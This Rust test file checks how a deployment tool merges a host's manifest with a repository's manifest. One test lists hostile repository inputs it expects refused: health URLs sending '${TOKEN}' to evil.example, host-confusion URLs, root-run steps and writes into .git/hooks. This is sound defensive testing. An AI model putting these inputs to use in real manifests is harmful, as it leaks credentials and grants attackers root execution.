//! Two files as one.

use std::path::Path;

use super::*;
use crate::manifest::{RunAs, Scope, Source, parse_at};

const HOST: &str = "schema = 1\n[install]\nroot = \"/opt/app\"\nowner = \"app\"\n[source.git]\nurl = \"https://git.example.org/app.git\"\nbranch = \"main\"\nmanifest = true\n";

const UPSTREAM: &str = r#"
[[component]]
name = "app"
path = "app"
version = { file = "VERSION" }
env = [{ file = ".env", example = ".env.example" }]
[[component.step]]
name = "sync"
run = ["make", "sync"]
undo = "rerun"
[[component.step]]
name = "init"
run = ["make", "init"]
undo = "pure"
[[component.unit]]
file = "app.service"
scope = "user"
[[component.health]]
http = "http://127.0.0.1:${PORT}/"
headers = { X-Token = "${TOKEN}" }
"#;

fn upstream(text: &str) -> Layer {
    Layer::Known(RepositoryManifest { revision: "1a2b3c4d5e".repeat(4), text: text.into() })
}

fn both(host: &str, text: &str) -> Result<Install, Problems> {
    parse_at("app", Path::new("/etc/relift/app.toml"), &format!("{HOST}{host}"), &upstream(text))
}

fn refused(host: &str, text: &str) -> String {
    both(host, text).expect_err(text).into_error().to_string() + &both(host, text).expect_err(text).render(false)
}

#[test]
fn a_host_that_does_not_ask_reads_nothing_of_the_repositorys() {
    let host = HOST.replace("manifest = true\n", "[[component]]\nname = \"mine\"\npath = \"mine\"\n");
    let install = parse_at("app", Path::new("x"), &host, &upstream(UPSTREAM)).unwrap();
    assert_eq!(install.components.len(), 1);
    assert!(install.layered.is_none());
    let install = parse_at("app", Path::new("x"), &host, &upstream("not TOML")).unwrap();
    assert_eq!(install.components[0].name, "mine");
}

#[test]
fn the_host_wins_key_by_key_and_elements_go_by_their_names() {
    let host = r#"
[[component]]
name = "app"
path = "services/app"
[[component.step]]
name = "sync"
timeout = "9min"
[[component.step]]
name = "mine"
run = ["true"]
undo = "pure"
"#;
    let install = both(host, UPSTREAM).unwrap();
    let app = &install.components[0];
    assert_eq!(app.path.as_str(), "services/app");
    let steps: Vec<(&str, &str, u64)> =
        app.steps.iter().map(|step| (step.name.as_str(), step.run[0].as_str(), step.timeout.as_secs())).collect();
    assert_eq!(steps, [("sync", "make", 540), ("init", "make", 600), ("mine", "true", 600)]);
    assert_eq!(app.units[0].scope, Scope::User);
    assert!(app.health[0].loopback_only, "the repository declares it");
    let shown = shown(&install).unwrap();
    for line in [
        "path = \"services/app\"  # /etc/relift/app.toml",
        "timeout = \"9min\"  # /etc/relift/app.toml",
        "run = [\"make\", \"sync\"]  # relift.toml at 1a2b3c4d5e",
        "run = [\"true\"]  # /etc/relift/app.toml",
        "branch = \"main\"  # /etc/relift/app.toml",
        "restart = \"if-changed\"  # default",
        "X-Token = \"${TOKEN}\"  # relift.toml at 1a2b3c4d5e",
    ] {
        assert!(shown.contains(line), "{line}\n{shown}");
    }
    shown.parse::<toml::Table>().unwrap();
    let from = sources(&install).unwrap();
    assert_eq!(from["component[0].step[0].timeout"], "/etc/relift/app.toml");
    assert_eq!(from["component[0].step[1].run"], "relift.toml at 1a2b3c4d5e");
}

#[test]
fn what_root_runs_the_host_declares_alone() {
    let host = "[[component]]\nname = \"app\"\n[[component.step]]\nname = \"init\"\nrun = [\"make\", \"ours\"]\nas = \"root\"\n[[component.unit]]\nfile = \"app.service\"\nscope = \"system\"\n";
    let theirs = UPSTREAM.replace("scope = \"user\"", "restart = \"never\"\ninstances = []");
    let install = both(host, &theirs).unwrap();
    let init = &install.components[0].steps[1];
    assert_eq!((init.run[1].as_str(), init.run_as, &init.undo), ("ours", RunAs::Root, &StepUndo::Irreversible));
    assert_eq!(install.components[0].steps[0].run_as, RunAs::Owner);
    let unit = &install.components[0].units[0];
    assert_eq!((unit.scope, unit.restart), (Scope::System, crate::manifest::RestartPolicy::IfChanged));
    // A step that root runs, and whose command only the repository has, is no step.
    let host = "[[component]]\nname = \"app\"\n[[component.step]]\nname = \"init\"\nas = \"root\"\n";
    let said = refused(host, UPSTREAM);
    assert!(said.contains("/etc/relift/app.toml:") && said.contains("`run` is missing"), "{said}");
}

#[test]
fn what_is_wrong_is_told_of_the_file_that_it_is_in() {
    let said = refused("", &UPSTREAM.replace("undo = \"rerun\"", "undo = \"rerun\"\ntimeout = \"soon\""));
    assert!(said.contains("relift.toml at 1a2b3c4d5e, line 11: the repository's manifest has an error"), "{said}");
    assert!(
        said.contains("--> relift.toml at 1a2b3c4d5e:11:11") && said.contains("component[0].step[0].timeout"),
        "{said}"
    );
    let said = refused("[[component]]\nname = \"app\"\nversion = { file = \"../V\" }\n", UPSTREAM);
    assert!(said.contains("--> /etc/relift/app.toml:11:"), "{said}");
    let said = refused("", "[[component]]\nname = \"app\"\n");
    assert!(said.contains("relift.toml at 1a2b3c4d5e") && said.contains("`path` is missing or `.`"), "{said}");
    assert!(refused("", "x = = 1").contains("relift.toml at 1a2b3c4d5e:1:"));
}

#[test]
fn what_is_the_hosts_alone_is_refused_with_its_line() {
    let step = |more: &str| format!("{UPSTREAM}[[component.step]]\nname = \"x\"\nundo = \"pure\"\n{more}\n");
    let health = |more: &str| format!("{UPSTREAM}[[component.health]]\n{more}\n");
    let hook = |more: &str| format!("{UPSTREAM}[[hook]]\nat = \"verify\"\nrun = [\"x\"]\n{more}\n");
    let peer = |more: &str| format!("{UPSTREAM}[[compatibility.peer]]\nname = \"clients\"\n{more}\n");
    for (text, words) in [
        ("[install]\nroot = \"/\"".to_owned(), "[install] is for the host's manifest alone"),
        ("[install]\ntrust-checkout = true".into(), "[install] is for the host's"),
        ("[source.git]\nurl = \"https://evil.example/a.git\"".into(), "[source] is for the host's"),
        ("[policy]\nunattended = \"major\"".into(), "[policy] is for the host's"),
        ("[[notify]]\ncommand = [\"/bin/x\"]".into(), "[notify] is for the host's"),
        ("[policy]\ndefer = { run = [\"/bin/true\"], as = \"root\" }".into(), "[policy] is for the host's"),
        ("[backup]\npaths = [\"x\"]".into(), "[backup] is for the host's"),
        ("[monitoring]\notlp = \"http://evil.example\"".into(), "[monitoring] is for the host's"),
        (step("run = [\"x\"]\nas = \"root\""), "as = \"root\" is for the host's"),
        (UPSTREAM.replace("scope = \"user\"", "scope = \"system\""), "a unit of the system manager is for the host's"),
        (UPSTREAM.replace("scope = \"user\"", ""), "a unit of the system manager is for the host's"),
        (UPSTREAM.replace(".env.example\" }", ".env.example\", public = [\"TOKEN\"] }"), "which values may be shown"),
        (
            format!("{UPSTREAM}[[component.needs]]\npackages = [\"x\"]\n"),
            "what is done when packages of the host change",
        ),
        (UPSTREAM.replace("path = \"app\"", "path = \".GIT\""), "git's own files"),
        (UPSTREAM.replace("file = \".env\"", "file = \".git/hooks/x\""), "git's own files"),
        (step(&format!("run = [\"sh\", \"-c\", \"{}\"]", "x".repeat(20_000))), "a command of more than 16 KiB"),
        (health("http = \"http://evil.example/${TOKEN}\""), "asks another host"),
        (health("http = \"http://127.0.0.1.evil.example/\""), "asks another host"),
        (health("http = \"http://127.0.0.1@evil.example/\""), "asks another host"),
        (health("http = \"http://${HOST}/\""), "asks another host"),
        (health("http = \"http://127.0.0.1${X}/\""), "asks another host"),
        (health("http = \"http://localhost:80${X}/\""), "asks another host"),
        (health("tcp = \"evil.example:80\""), "asks another host"),
        (hook("as = \"root\""), "as = \"root\" is for the host's"),
        (hook("cwd = \".git/hooks\""), "git's own files"),
        (hook("env-file = [\".git/config\"]"), "git's own files"),
        (
            format!("{UPSTREAM}[[migration]]\nversion = \"1.2.3\"\nrun = [\"x\"]\nas = \"root\"\n"),
            "as = \"root\" is for the host's",
        ),
        (peer("command = [\"x\"]"), "how a peer is asked is for the host's"),
        (peer("http = \"http://evil.example/\""), "how a peer is asked is for the host's"),
        (peer("unreachable = \"warn\""), "how a peer is asked is for the host's"),
    ] {
        let said = refused("", &text);
        assert!(said.contains(words) && said.contains("relift.toml at 1a2b3c4d5e:"), "{text}\n{said}");
    }
    for address in ["127.0.0.1:${PORT}", "localhost", "[::1]:80", "127.9.9.9:1"] {
        both("", &health(&format!("http = \"http://{address}/x\"")))
            .unwrap_or_else(|no| panic!("{}", no.render(false)));
    }
}

#[test]
fn hooks_and_migrations_are_those_of_both_files_and_of_one_version_the_hosts() {
    let hook = |run: &str| format!("[[hook]]\nat = \"verify\"\nrun = [\"{run}\"]\n");
    let migration = |version: &str, run: &str| {
        format!("[[migration]]\nversion = \"{version}\"\nrun = [\"{run}\"]\nundo = \"pure\"\n")
    };
    let asked = "[[compatibility.peer]]\nname = \"clients\"\ncommand = [\"host\"]\n";
    let accepts = "[[compatibility.peer]]\nname = \"clients\"\naccepts = [{ ours = \"1\", theirs = \"2\" }]\n";
    let host = hook("host") + &migration("1.1.0", "host") + &migration("1.2.0", "host") + asked;
    let text = format!(
        "{UPSTREAM}{}{}{}{accepts}",
        hook("upstream"),
        migration("1.1.0", "upstream"),
        migration("1.0.1", "upstream")
    );
    let install = both(&host, &text).unwrap_or_else(|no| panic!("{}", no.render(false)));
    let runs: Vec<&str> = install.hooks.iter().map(|hook| hook.procedure.run[0].as_str()).collect();
    assert_eq!(runs, ["upstream", "host"]);
    let run = |migration: &crate::manifest::Migration| {
        (migration.version.to_string(), migration.procedure.as_ref().unwrap().run[0].clone())
    };
    let runs: Vec<(String, String)> = install.migrations.iter().map(run).collect();
    let wanted = [("1.1.0", "host"), ("1.0.1", "upstream"), ("1.2.0", "host")];
    assert_eq!(runs, wanted.map(|(version, run)| (version.to_owned(), run.to_owned())));
    assert_eq!(install.peers.len(), 1);
    // As far as the host's file goes alone, nothing names what only the other has.
    let alone = parse_at("app", Path::new("/etc/relift/app.toml"), &format!("{HOST}{host}"), &Layer::Unknown).unwrap();
    assert!(alone.hooks.is_empty() && alone.migrations.is_empty());
}

#[test]
fn a_host_that_asks_is_whole_without_the_repositorys_as_far_as_it_goes() {
    let parse = |layer: &Layer, more: &str| parse_at("app", Path::new("x"), &format!("{HOST}{more}"), layer);
    let open = "[[component]]\nname = \"app\"\n[[component]]\nname = \"mine\"\npath = \"mine\"\n[[component.step]]\nname = \"a\"\n[compatibility]\nlockstep = [[\"app\", \"mine\"]]\n";
    let install = parse(&Layer::Unknown, open).unwrap();
    assert_eq!(install.components.len(), 1);
    assert!(install.components[0].steps.is_empty());
    assert!(parse(&Layer::Unknown, "").unwrap().components.is_empty());
    assert!(parse(&Layer::Absent, open).is_err(), "nothing will make it whole");
    let Source::Git(source) = parse(&Layer::Unknown, "").unwrap().source else { unreachable!() };
    assert!(source.manifest);
}

#[test]
fn changes_are_told_by_name_and_show_no_header() {
    let old = RepositoryManifest { revision: "a".repeat(40), text: UPSTREAM.into() };
    let text = UPSTREAM
        .replace("[\"make\", \"init\"]", "[\"sh\", \"x\"]")
        .replace("${TOKEN}", "literal")
        .replace("[[component.unit]]\nfile = \"app.service\"\nscope = \"user\"\n", "");
    let text = text.replacen(
        "[[component.step]]",
        "[[component.step]]\nname = \"first\"\nrun = [\"a\"]\n[[component.step]]",
        1,
    );
    let new = RepositoryManifest { revision: "b".repeat(40), text };
    assert_eq!(
        changes(Some(&old), Some(&new)),
        [
            "component[app].step[first].name: new, \"first\"",
            "component[app].step[first].run: new, [\"a\"]",
            "component[app].step[init].run: [\"make\", \"init\"] -> [\"sh\", \"x\"]",
            "component[app].unit[app.service].file: no longer declared",
            "component[app].unit[app.service].scope: no longer declared",
        ]
    );
    assert_eq!(changes(Some(&old), Some(&old)), Vec::<String>::new());
    assert!(changes(None, Some(&old)).len() > 10);
}

#[test]
fn the_way_back_undoes_as_the_newer_release_says_and_reruns_as_the_older_one_does() {
    let step = |name: &str, run: &str, undo: &str| {
        format!("[[component.step]]\nname = \"{name}\"\nrun = [\"{run}\"]\nundo = {undo}\n")
    };
    let head = "[[component]]\nname = \"app\"\npath = \"app\"\n";
    let old = [head.to_owned(), step("sync", "old-sync", "\"rerun\""), step("gone", "old", "\"rerun\"")].concat();
    let new = [head.to_owned(), step("sync", "new-sync", "\"rerun\""), step("migrate", "up", "{ run = [\"down\"] }")]
        .concat();
    let back = both("", &old).unwrap().going_back(&both("", &new).unwrap());
    let steps: Vec<(&str, &str)> =
        back.components[0].steps.iter().map(|step| (step.name.as_str(), step.run[0].as_str())).collect();
    assert_eq!(steps, [("migrate", "up"), ("sync", "old-sync"), ("gone", "old")]);
}

proptest::proptest! {
    /// Whatever a repository says, the host's own tables stay the host's.
    #[test]
    fn no_text_of_a_repository_changes_what_is_the_hosts_alone(text in "[a-z\\[\\]=\"{}., \n]{0,200}") {
        if let Ok(install) = both("", &text) {
            let Source::Git(source) = &install.source else { unreachable!() };
            proptest::prop_assert_eq!(&source.url, "https://git.example.org/app.git");
            proptest::prop_assert_eq!(install.owner.as_str(), "app");
            proptest::prop_assert!(!install.trust_checkout && install.backup.is_none());
        }
    }
}
